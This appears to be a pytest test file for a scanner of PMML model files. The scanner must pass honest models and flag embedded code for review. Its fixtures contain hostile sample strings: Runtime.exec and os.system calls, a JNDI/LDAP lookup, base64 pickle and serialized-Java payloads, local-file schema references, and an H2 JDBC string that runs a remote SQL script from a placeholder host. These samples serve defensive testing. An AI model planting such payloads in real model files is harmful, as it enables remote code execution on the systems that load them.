from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seamark.core.reports import FileReport
from seamark.core.verdicts import Verdict
from seamark.scan.models import scan_bytes, scan_path

DATA = Path(__file__).parents[3] / "data" / "graphs"


def rules(report: FileReport) -> set[str]:
    return {finding.rule.id for finding in report.findings}


def scan(data: bytes | str, name: str = "m.pmml") -> FileReport:
    return scan_bytes(data.encode() if isinstance(data, str) else data, name=name)


def pmml(inside: str = "", before: str = "", attributes: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{before}<PMML version="4.4" '
        f'xmlns="http://www.dmg.org/PMML-4_4" {attributes}><Header/>{inside}'
        '<RegressionModel functionName="regression" modelName="r"/></PMML>'
    )


def extension(text: str = "", **said: str) -> str:
    attributes = " ".join(f'{key}="{value}"' for key, value in said.items())
    return pmml(f"<Extension {attributes}>{text}</Extension>")


def call(function: str) -> str:
    return f'<DerivedField name="d"><Apply function="{function}"/></DerivedField>'


REAL = sorted(DATA.glob("*.pmml"))


@pytest.mark.parametrize("path", REAL, ids=lambda path: path.name)
def test_really_saved_models_are_clean(path: Path) -> None:
    report = scan_path(path)
    assert (report.verdict, report.findings, report.format) == (Verdict.CLEAN, (), "pmml")


def test_the_header_tells_of_the_model() -> None:
    said = scan_path(DATA / "expression.pmml").metadata
    assert (said.framework, said.framework_version) == ("SkLearn2PMML package", "0.133.1")
    assert (said.format_version, said.architecture) == ("4.4", "RegressionModel")


HONEST = {
    "plain": pmml(),
    "defined function": pmml('<DefineFunction name="a.b"/>' + call("a.b")),
    "function of a vendor": pmml(call("x-sinh")),
    "schema": pmml(
        attributes='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/v4-4/pmml-4-4.xsd"'
    ),
    "extension": extension("PMMLPipeline(steps=[('s', StandardScaler())])", name="repr"),
    "evaluated field": pmml('<DerivedField name="eval(X[0] + X[1])"/>'),
    "comment": pmml(before="<!-- <!DOCTYPE x> -->"),
    "empty document type": pmml(before="<!DOCTYPE PMML>"),
    "no namespace": '<PMML version="1.1"><TreeModel/></PMML>',
    "latin 1": pmml("<Annotation>\u00e9</Annotation>").replace("?>", " encoding='latin1'?>", 1),
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_documents_are_clean(name: str) -> None:
    data = HONEST[name]
    report = scan(data.encode("latin-1") if "latin1" in data else data)
    assert (report.verdict, report.findings, report.coverage.skipped) == (Verdict.CLEAN, (), ())


def test_encodings_are_read() -> None:
    for encoding in ("utf-16", "utf-8-sig"):
        assert scan(pmml().encode(encoding)).metadata.architecture == "RegressionModel"
    japanese = pmml("<Annotation>\u65e5</Annotation>").replace("?>", " encoding='Shift_JIS'?>", 1)
    report = scan(japanese.encode("shift_jis"))
    assert (report.verdict, report.metadata.name) == (Verdict.CLEAN, "r")


CODE = {
    "Java": extension("Runtime.getRuntime().exec(x)", extender="KNIME"),
    "Java in an attribute": extension(value="new ProcessBuilder(x)"),
    "split by a comment": extension("Runtime.get<!-- x -->Runtime()"),
    "in a child": extension('<Row code="os.system(1)"/>'),
    "script in a section": extension("<![CDATA[<script>alert(1)</script>]]>"),
    "lookup": extension(value="${jndi:ldap://seamark.invalid/a}"),
    "pickle": extension("gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt", name="object"),
    "serialized Java": extension("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", name="object"),
    "script element": pmml('<s:Script xmlns:s="urn:x"/>'),
}


@pytest.mark.parametrize("name", CODE)
def test_code_in_extensions_must_be_reviewed(name: str) -> None:
    report = scan(CODE[name])
    assert (rules(report), report.verdict) == ({"PMM006"}, Verdict.REVIEW)


@pytest.mark.parametrize("name", ["org.example.Function", "java.lang.Runtime"])
def test_functions_named_like_classes_must_be_reviewed(name: str) -> None:
    assert rules(scan(pmml(call(name)))) == {"PMM007"}


@pytest.mark.parametrize("place", ["file:///x.xsd", "//seamark.invalid/x.xsd", "C:\\x.xsd"])
def test_a_schema_in_a_file_must_be_reviewed(place: str) -> None:
    instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    data = pmml(attributes=f'{instance} xsi:noNamespaceSchemaLocation="{place}"')
    assert rules(scan(data)) == {"PMM008"}


@given(st.sampled_from([path.read_bytes() for path in REAL]), st.data())
@settings(max_examples=100, deadline=None)
def test_mutations_never_break_the_reader(raw: bytes, data: st.DataObject) -> None:
    changed = bytearray(raw)
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(changed) - 1))
        changed[at : at + 1] = data.draw(st.binary(max_size=8))
    assert "FIL008" not in rules(scan(bytes(changed)))


SECOND = (
    '<Extension/><Extension xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:schemaLocation="dmg:y file:///etc/x"/>'
)


def test_schemas_that_a_later_element_names() -> None:
    assert rules(scan(pmml(SECOND))) == {"PMM008"}
    far = pmml("<Annotation>x</Annotation>" * 200_000 + SECOND)
    assert rules(scan(far)) == {"PMM008"}
    assert rules(scan(pmml(SECOND.replace("file:///etc/x", "http://x/y")))) == set()


def test_databases_that_run_scripts() -> None:
    text = extension("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://seamark.invalid/x.sql'")
    assert rules(scan(text)) == {"PMM006"}
